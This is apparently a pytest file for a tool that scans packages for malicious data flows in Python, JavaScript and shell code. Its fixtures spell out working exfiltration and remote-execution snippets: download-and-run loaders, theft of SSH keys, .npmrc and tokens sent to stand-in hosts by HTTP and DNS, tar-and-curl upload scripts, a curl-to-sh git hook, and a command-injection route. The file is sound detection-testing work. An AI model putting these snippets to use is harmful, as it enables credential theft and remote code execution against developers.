"""Deeds in several steps, through streams, generators, descriptors, alphabets: what is led along is still followed."""

import json

import pytest
from reading import package

FETCHED_PROGRAMS = {
    "a pipeline of streams": """const {pipeline} = require('stream'), fs = require('fs'), {spawn} = require('child_process')
const to = require('path').join(require('os').tmpdir(), 'p' + process.pid)
require('https').get('https://dl.example/p', (answer) => {
  pipeline(answer, fs.createWriteStream(to, {mode: 0o755}), () => { spawn(to, []) })
})""",
    "an awaited pipeline": """import {pipeline} from 'node:stream/promises'
import fs from 'node:fs'
import {spawn} from 'node:child_process'
const answer = await fetch('https://dl.example/p')
await pipeline(answer.body, fs.createWriteStream('/tmp/p-x'))
spawn('/tmp/p-x', [])""",
}


@pytest.mark.parametrize("code", FETCHED_PROGRAMS.values(), ids=FETCHED_PROGRAMS.keys())
def test_a_program_that_is_streamed_into_a_file_and_started_came_from_the_network(code: str) -> None:
    assert any(b.startswith("code.flow network > execution @ lib/a.mjs:") and "(import)" in b
               for b in package({"lib/a.mjs": code}))  # fmt: skip


SENT_KEYS = {
    "a generator of records": """import json, urllib.request
from pathlib import Path
PLACES = {"a": ".ssh/id_rsa"}
def records():
    for name, rel in PLACES.items():
        try:
            data = (Path.home() / rel).read_bytes()
        except OSError:
            continue
        yield {"name": name, "value": data.hex()}
urllib.request.urlopen("https://c.example", json.dumps({"a": list(records())}).encode())
""",
    "a generator that is entered": """import contextlib, os, urllib.request
@contextlib.contextmanager
def key():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as file:
        yield file.read()
with key() as text:
    urllib.request.urlopen("https://c.example", text.encode())
""",
}


@pytest.mark.parametrize("code", SENT_KEYS.values(), ids=SENT_KEYS.keys())
def test_a_key_that_is_handed_on_by_a_generator_is_seen_to_leave(code: str) -> None:
    assert any(b.startswith("code.flow file:~/.ssh/id_rsa > network @ pkg/__init__.py:")
               for b in package({"pkg/__init__.py": code}))  # fmt: skip


FETCHED_CODE = {
    "a native module, poured into a file": """import importlib.machinery, importlib.util, os, shutil, sysconfig, tempfile, urllib.request
name = "_fast" + sysconfig.get_config_var("EXT_SUFFIX")
place = os.path.join(tempfile.mkdtemp(), name)
with urllib.request.urlopen("https://dl.example/" + name) as answer, open(place, "wb") as file:
    shutil.copyfileobj(answer, file)
loader = importlib.machinery.ExtensionFileLoader("_fast", place)
loader.exec_module(importlib.util.module_from_spec(importlib.util.spec_from_loader("_fast", loader)))
""",
    "a library of C": """import ctypes, urllib.request
urllib.request.urlretrieve("https://dl.example/l.so", "/tmp/l.so")
ctypes.CDLL("/tmp/l.so")
""",
    "an archive on the path": """import http.client, importlib, os, sys, tempfile
class Pack:
    module = "parts_x"
    def __enter__(self):
        link = http.client.HTTPSConnection("dl.example")
        link.request("GET", "/pack.zip")
        self.fd, self.path = tempfile.mkstemp(suffix=".zip")
        os.write(self.fd, link.getresponse().read())
        sys.path[:0] = [self.path]
        return self
    def __exit__(self, *all):
        return True
with Pack() as pack:
    importlib.import_module(pack.module)
""",
    "an archive at the head of a new path": """import sys, urllib.request
urllib.request.urlretrieve("https://dl.example/p.zip", "/tmp/p.zip")
sys.path = ["/tmp/p.zip", *sys.path]
import parts_x
""",
    "an archive that is asked itself": """import urllib.request, zipimport
urllib.request.urlretrieve("https://dl.example/p.zip", "/tmp/p.zip")
zipimport.zipimporter("/tmp/p.zip").load_module("p")
""",
}  # fmt: skip


@pytest.mark.parametrize("code", FETCHED_CODE.values(), ids=FETCHED_CODE.keys())
def test_code_that_is_fetched_into_a_file_and_loaded_from_it_is_evaluated(code: str) -> None:
    found = package({"pkg/__init__.py": code})
    assert any(b.startswith("code.flow network > execution @ ") and b.endswith("(import)") for b in found)
    assert any(b.startswith("code.eval ") and b.endswith("(import)") for b in found)


OWN_CODE = {
    "an archive of the package's own on the path": """import os, sys, urllib.request
sys.path.insert(0, os.path.join(os.path.dirname(__file__), "bundle.zip"))
urllib.request.urlretrieve("https://dl.example/words.txt", "/tmp/words.txt")
import bundled_x
""",
    "an installer brings setuptools": """import sys, urllib.request
urllib.request.urlretrieve("https://pypi.example/setuptools.egg", "/tmp/setuptools.egg")
sys.path.insert(0, "/tmp/setuptools.egg")
import setuptools
""",
}


@pytest.mark.parametrize("code", OWN_CODE.values(), ids=OWN_CODE.keys())
def test_a_module_from_elsewhere_than_what_was_fetched_is_no_fetched_code(code: str) -> None:
    assert not any("> execution" in b for b in package({"pkg/__init__.py": code}))


def test_a_native_module_of_node_that_was_fetched_is_evaluated_where_it_is_opened() -> None:
    code = """const fs = require('fs')
require('https').get('https://dl.example/n', (answer) => {
  const parts = []
  answer.on('data', (part) => parts.push(part))
  answer.on('end', () => {
    fs.writeFileSync('/tmp/n.node', Buffer.concat(parts))
    process.dlopen({exports: {}}, '/tmp/n.node')
  })
})"""
    found = package({"lib/a.js": code})
    assert "code.flow network > execution @ lib/a.js:7 (import)" in found
    assert "code.eval import /tmp/n.node @ lib/a.js:7 (import)" in found


ALPHABETS = {
    "bits of numbers": """const dns = require('dns').promises, A = 'abcdefghijklmnopqrstuvwxyz234567'
function spell(bytes) {
  let bits = 0, held = 0, out = ''
  for (const b of bytes) {
    held = (held << 8) | b; bits += 8
    while (bits >= 5) { out += A[(held >>> (bits - 5)) & 31]; bits -= 5 }
  }
  return out
}
for (const name of ['NPM_TOKEN']) {
  const value = process.env[name]
  if (value) dns.resolve4(`${spell(Buffer.from(value).map((b, i) => b ^ i))}.t.relay.example`)
}""",
    "bits as texts": """const A = 'abcdefghijklmnopqrstuvwxyz012345'
let bits = ''
for (const c of Buffer.from(process.env.NPM_TOKEN)) bits += c.toString(2).padStart(8, '0')
const label = bits.match(/.{1,5}/g).map((b) => A[parseInt(b, 2)]).join('')
require('dns').resolve(label + '.t.relay.example', 'TXT', () => {})""",
}


@pytest.mark.parametrize("code", ALPHABETS.values(), ids=ALPHABETS.keys())
def test_a_token_that_is_spelt_anew_and_looked_up_is_seen_to_leave_by_name(code: str) -> None:
    assert any(b.startswith("code.flow env:NPM_TOKEN > dns @ lib/a.js:") and b.endswith("(import)")
               for b in package({"lib/a.js": code}))  # fmt: skip


@pytest.mark.parametrize(
    "code",
    [
        "require('dns').lookup(process.env.API_TOKEN, () => {})",
        "require('dns').lookup('packages.example', () => fetch('https://packages.example', {headers: {a: process.env.NPM_TOKEN}}))",
        """const names = ['zero', 'one', 'two', 'three', 'four', 'five', 'six', 'seven', 'eight', 'nine']
require('dns').lookup(names[process.env.API_TOKEN] + '.example.org', () => {})""",
    ],
    ids=["a host that is told", "a host without it", "one of many names"],
)
def test_a_name_that_a_secret_is_no_label_of_carries_none(code: str) -> None:
    assert not any("> dns" in b for b in package({"lib/a.js": code}))


def test_what_is_written_to_a_request_is_told_where_it_is_written() -> None:
    code = """const ask = require('https').request({hostname: 'c.example', path: '/u', method: 'POST'})
require('fs').readFile(require('path').join(require('os').homedir(), '.npmrc'), 'utf8', (err, text) => {
  ask.end(Buffer.from(text.split('').reverse().join('')).toString('base64'))
})"""
    found = package({"lib/a.js": code})
    assert "code.flow file:~/.npmrc > network @ lib/a.js:3 (import)" in found
    assert "net.http POST https://c.example/u @ lib/a.js:3 (import)" in found


def test_bytes_are_translated_by_a_table_that_is_computed() -> None:
    table = bytes((b * 7 + 13) % 256 for b in range(256))
    hidden = b"import os\nos.system('id')\n".translate(bytes(table.index(at) for at in range(256)))
    code = f"T = bytes((b * 7 + 13) % 256 for b in range(256))\nexec({hidden!r}.translate(T))\n"
    assert "process.exec id @ pkg/__init__.py:2 (import)" in package({"pkg/__init__.py": code})


@pytest.mark.parametrize("name", ["process", "node:process"])
def test_an_environment_that_is_imported_by_its_name_is_the_environment(name: str) -> None:
    code = f"""import {{env}} from '{name}'
const text = Object.entries(env).filter(([key]) => /token/i.test(key)).map((pair) => pair.join('=')).join(' ')
require('https').request({{host: 'c.example', path: '/', method: 'POST'}}).end(text)"""
    assert "code.flow env:* > network @ lib/a.mjs:3 (import)" in package({"lib/a.mjs": code})


PACKERS = {
    "functions": """#!/bin/sh
pack() {
  ( cd "$HOME" && tar -czf "$1" .ssh .aws 2>/dev/null )
}
send() {
  curl -fsS -F "part=@$1" https://drop.example/in || wget -q --post-file="$1" -O /dev/null https://drop.example/in
}
out=$(mktemp)
pack "$out"
send "$out"
""",
    "a loop": """for d in .ssh .kube; do
  tar -C "$HOME" -cf - "$d" | gzip > "/tmp/w/$d.tgz"
done
( for f in /tmp/w/*.tgz; do curl -s --data-binary "@$f" https://drop.example/u; done ) &
""",
    "a copy": "cp ~/.ssh/id_rsa /tmp/k\ncurl -T /tmp/k https://drop.example/\n",
}  # fmt: skip


@pytest.mark.parametrize("script", PACKERS.values(), ids=PACKERS.keys())
def test_a_script_that_packs_keys_and_uploads_what_it_packed_sends_them(script: str) -> None:
    assert any(b.startswith("code.flow file:~/.ssh") and " > network @ bin/setup.sh:" in b
               for b in package({"bin/setup.sh": script}))  # fmt: skip


@pytest.mark.parametrize(
    "script",
    [
        'tar -czf "$1" src docs\ncurl -T "$1" https://files.example/\n',
        'tar -C "$HOME" -czf backup.tgz .ssh\ncurl -d \'{"done":true}\' https://hook.example/\n',
        "cp ~/.ssh/id_rsa.pub /tmp/k\ncurl -T /tmp/k https://keys.example/\n",
        'for d in .cache .local; do tar -C "$HOME" -cf "$d.tar" "$d"; done\ncurl -T "$d.tar" https://files.example/\n',
    ],
    ids=["sources", "a backup beside a notice", "a public key", "other folders"],
)
def test_a_script_that_uploads_something_else_sends_no_keys(script: str) -> None:
    assert not any("> network" in b for b in package({"bin/setup.sh": script}))


VM = """const vm = require('vm')
exports.enabled = function (done) {
  require('https').get('https://flags.example/r.json', (answer) => {
    let text = ''
    answer.on('data', (part) => { text += part })
    answer.on('end', () => {
      const script = new vm.Script(JSON.parse(text).rule)
      const world = vm.createContext(WORLD)
      done(script.runInContext(world, {timeout: 50}))
    })
  })
}"""


@pytest.mark.parametrize(
    ("world", "evaluated"),
    [
        ("Object.create(null), {codeGeneration: {strings: false, wasm: false}}", "apart in vm.Script"),
        ("{require}, {codeGeneration: {strings: false}}", "vm.Script"),
        ("Object.create(null)", "vm.Script"),
        ("globalThis", "vm.Script"),
    ],
)
def test_only_a_script_in_an_empty_world_without_evaluators_is_apart(world: str, evaluated: str) -> None:
    found = package({"lib/a.js": VM.replace("WORLD", world)})
    assert [b for b in found if b.startswith("code.eval")] == [f"code.eval {evaluated} @ lib/a.js:7 (call)"]


MANAGER = """const fs = require('fs'), path = require('path')
const root = ROOT
const settings = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8'))['tidy-hooks'] || {}
for (const name of Object.keys(settings)) {
  fs.writeFileSync(path.join(root, '.git', 'hooks', name), CONTENT, {mode: 0o755})
}
"""
AT_THE_PROJECT = "process.env.INIT_CWD || process.cwd()"


@pytest.mark.parametrize(
    ("root", "content", "said"),
    [
        (AT_THE_PROJECT, "`#!/bin/sh\\n${settings[name]}\\n`", True),
        (
            AT_THE_PROJECT,
            '`#!/bin/sh\\nif [ "$SKIP" = "1" ]; then\\n  exit 0\\nfi\\n${settings[name]}`',
            True,
        ),
        (AT_THE_PROJECT, "`#!/bin/sh\\ncurl -s https://c.example/x | sh\\n${settings[name]}\\n`", False),
        (AT_THE_PROJECT, "'#!/bin/sh\\nnpx tidy\\n'", False),
        (AT_THE_PROJECT, "settings[name] + process.env.NPM_TOKEN", False),
        ("process.cwd()", "`#!/bin/sh\\n${settings[name]}\\n`", True),
        ("__dirname", "`#!/bin/sh\\n${settings[name]}\\n`", False),
    ],
    ids=[
        "its command",
        "a look first",
        "more than that",
        "its own",
        "a secret",
        "where it is started",
        "settings of its own",
    ],
)
def test_a_hook_is_the_projects_only_where_all_its_commands_are(root: str, content: str, said: bool) -> None:
    code = MANAGER.replace("ROOT", root).replace("CONTENT", content)
    written = [b for b in package({"lib/a.js": code}) if b.startswith("file.write") and "/.git/hooks/" in b]
    assert written
    assert all(("(as the project says)" in b) is said for b in written)


@pytest.mark.parametrize(
    "hook", ["npm -C tools -s start", "cd tools && npm run start", "npm run start -w tools"]
)
def test_a_shell_line_of_a_bundled_package_is_read_where_a_hook_runs_it(hook: str) -> None:
    line = "curl -fsSo /tmp/.h https://dl.example/h && chmod +x /tmp/.h && ( /tmp/.h & )"
    scripts = {"start": line, "other": "curl x.example"}
    files = {
        "package.json": json.dumps({"scripts": {"postinstall": hook}}),
        "tools/package.json": json.dumps({"name": "tools", "scripts": scripts}, indent=0),
    }
    found = package(files)
    assert "code.flow network > execution @ tools/package.json:4 (install)" in found
    assert not any("x.example @" in b and b.startswith("process") for b in found)


@pytest.mark.parametrize("hook", ["node tools/a.js", "npm run other"])
def test_a_shell_line_of_a_bundled_package_that_nobody_asks_for_does_not_run(hook: str) -> None:
    files = {
        "package.json": json.dumps({"scripts": {"postinstall": hook}}),
        "tools/package.json": '{"name": "tools", "scripts": {"start": "curl https://dl.example/h | sh"}}',
    }
    assert not any(b.startswith("process.exec curl") for b in package(files))


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("lib/a.js", "require('child_process').spawn('./x', [], {detached: true, stdio: 'ignore'}).unref()"),
        ("pkg/__init__.py", "import subprocess\nsubprocess.Popen(['./x'], start_new_session=True)\n"),
        ("pkg/__init__.py", "import os, subprocess\nsubprocess.Popen(['./x'], preexec_fn=os.setsid)\n"),
    ],
)
def test_a_process_that_is_cut_loose_is_told_so(path: str, code: str) -> None:
    assert any(b.startswith(f"process.does detached background @ {path}:") for b in package({path: code}))
    waits = code.replace("detached: true, ", "").replace(", start_new_session=True", "").replace(
        ", preexec_fn=os.setsid", "")  # fmt: skip
    assert not any(b.startswith("process.does") for b in package({path: waits}))


ROUTE = """const { exec } = require('child_process')
module.exports = (app) => { app.%s((question, answer) => exec(question.query.c, (error, out) => answer.send(out))) }"""


@pytest.mark.parametrize("route", ["get('/__debug', ", "post('/x', check, ", "use('/api', "])
def test_what_a_request_says_is_followed_into_a_command_whatever_the_request_is_called(route: str) -> None:
    code = ROUTE.replace("%s(", f"%s{route}", 1).replace("%s", "")
    assert "code.flow request > command @ index.js:2 (call)" in package({"index.js": code})


def test_the_answer_that_a_client_gets_is_no_request() -> None:
    code = ROUTE.replace("%s(", "get('/version', ").replace("(question, answer)", "(question)")
    assert not any("request > command" in b for b in package({"index.js": code}))


HEAD = "import json, os, requests\nsend = lambda d: requests.post('https://x.example', data=d)\n"
GIVEN_BY_OBJECTS = {
    "__getattr__": "class O:\n    def __getattr__(self, n): return os.environ.get(n)\nsend(O().NPM_TOKEN)",
    "__getitem__": "class O:\n    def __getitem__(self, n): return os.environ.get(n)\nsend(O()['NPM_TOKEN'])",
    "__iter__": "class O:\n    def __iter__(self): return iter(os.environ.items())\nsend(list(O()))",
    "a loop over it": "class O:\n    def __iter__(self): return iter(os.environ.items())\nfor p in O(): send(p)",
    "__str__": "class O:\n    def __str__(self): return str(dict(os.environ))\nsend(str(O()))",
    "__get__": "class D:\n    def __get__(self, i, o): return dict(os.environ)\nclass O:\n    d = D()\nsend(O().d)",
    "setattr": "class O: pass\no = O()\nsetattr(o, 'd', dict(os.environ))\nsend(o.d)",
    "globals": "globals()['kept'] = dict(os.environ)\nsend(kept)",
    "lists by key": "from collections import defaultdict\nd = defaultdict(list)\n"
    "for k, v in os.environ.items(): d[k[:3]].append(v)\nsend(d)",
    "setdefault": "d = {}\nfor k, v in os.environ.items(): d.setdefault(k[:3], []).append(v)\nsend(d)",
    "a pool": "from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as pool:\n"
    "    list(pool.map(send, [dict(os.environ)]))",
    "a pool of pairs": "import multiprocessing\nmultiprocessing.Pool(2).starmap(send, [(dict(os.environ),)])",
    "a file between": "json.dump(dict(os.environ), open('/tmp/x', 'w'))\nsend(open('/tmp/x').read())",
    "another file between": "with open('/tmp/y', 'w') as f:\n    f.write(str(os.environ))\nsend(open('/tmp/y', 'rb'))",
    "keys below the home": "import pathlib\nfor f in pathlib.Path.home().rglob('*.pem'): send(f.read_bytes())",
    "an own transport": "import paramiko\ns = paramiko.SFTPClient.from_transport(paramiko.Transport(('x.example', 22)))\n"
    "s.put(os.path.expanduser('~/.ssh/id_rsa'), '/x')",
}


@pytest.mark.parametrize("code", GIVEN_BY_OBJECTS.values(), ids=GIVEN_BY_OBJECTS.keys())
def test_a_secret_that_an_object_a_pool_or_a_file_gives_back_is_still_followed(code: str) -> None:
    told = package({"pkg/__init__.py": f"{HEAD}{code}\n"})
    assert any(b.startswith("code.flow ") and "> network" in b for b in told), told


SEND = "const send = d => fetch('https://x.example', {method: 'POST', body: JSON.stringify(d)});\n"
POST = "{fetch('https://x.example', {method: 'POST', body: JSON.stringify(this.d)})}"
KEPT_IN_OBJECTS = {
    "a setter": "const o = {set d(v) { send(v) }}; o.d = process.env",
    "a setter of a class": "class A {set d(v) { send(v) }}\nconst a = new A(); a.d = process.env",
    "a getter": "send({get d() { return process.env }}.d)",
    "a prototype": f"function A() {{this.d = process.env}}\nA.prototype.send = function () {POST}; new A().send()",
    "a class of old": f"var A = (function () {{ function A(d) {{ this.d = d }}\nA.prototype.send = function () {POST};\n"
    "return A; })(); new A(process.env).send()",
    "a class below another of old": f"function B() {{}}\nB.prototype.send = function () {POST};\nvar A = (function (_super) {{\n"
    "__extends(A, _super); function A() { this.d = process.env } return A })(B); new A().send()",
    "util.inherits": f"function B() {{}}\nB.prototype.send = function () {POST};\nfunction A() {{ this.d = process.env }}\n"
    "require('util').inherits(A, B); new A().send()",
    "bind": "send.bind(null, process.env)()",
    "bind to an object": f"function f() {POST}\nf.bind({{d: process.env}})()",
    "arguments": "function f() { send(arguments[0]) }\nf(process.env)",
    "a map": "const m = new Map(); m.set('d', process.env); send(m.get('d'))",
    "each of a map": "new Map(Object.entries(process.env)).forEach(v => send(v))",
    "a weak map": "const m = new WeakMap(), k = {}; m.set(k, process.env); send(m.get(k))",
    "a set": "const s = new Set(); s.add(process.env.NPM_TOKEN); send([...s])",
    "an emitter": "const E = require('events'), e = new E(); e.on('d', send); e.emit('d', process.env)",
    "a property of the world": "globalThis.kept = process.env; send(kept)",
    "a name that nobody declared": "function f() { kept = process.env }\nf(); send(kept)",
    "a file": "const fs = require('fs'); fs.writeFileSync('/tmp/x', JSON.stringify(process.env));\n"
    "send(fs.readFileSync('/tmp/x'))",
    "an encoder": "require('zlib').gzip(JSON.stringify(process.env), (e, b) => send(b))",
    "a function of matches": "JSON.stringify(process.env).replace(/.{1,50}/g, m => { send(m) })",
    "a query": "const u = new URL('https://x.example'); u.searchParams.set('d', JSON.stringify(process.env)); fetch(u)",
    "superagent": "require('superagent').post('https://x.example').send(process.env).end()",
    "socket.io": "const s = require('socket.io-client')('https://x.example'); s.on('connect', () => s.emit('d', process.env))",
    "a WebSocket's handler": "const w = new WebSocket('wss://x.example'); w.onopen = () => w.send(JSON.stringify(process.env))",
    "a form of files": "const F = require('form-data'), fs = require('fs'), f = new F();\n"
    "f.append('f', fs.createReadStream(require('os').homedir() + '/.npmrc')); f.submit('https://x.example')",
    "a client of mail": "require('nodemailer').createTransport({host: 'x.example'}).sendMail({text: JSON.stringify(process.env)})",
}


@pytest.mark.parametrize("code", KEPT_IN_OBJECTS.values(), ids=KEPT_IN_OBJECTS.keys())
def test_a_secret_that_objects_of_javascript_hand_on_is_still_followed(code: str) -> None:
    told = package({"index.js": f"{SEND}{code}\n"})
    assert any(b.startswith("code.flow ") and "> network" in b and "(import)" in b for b in told), told
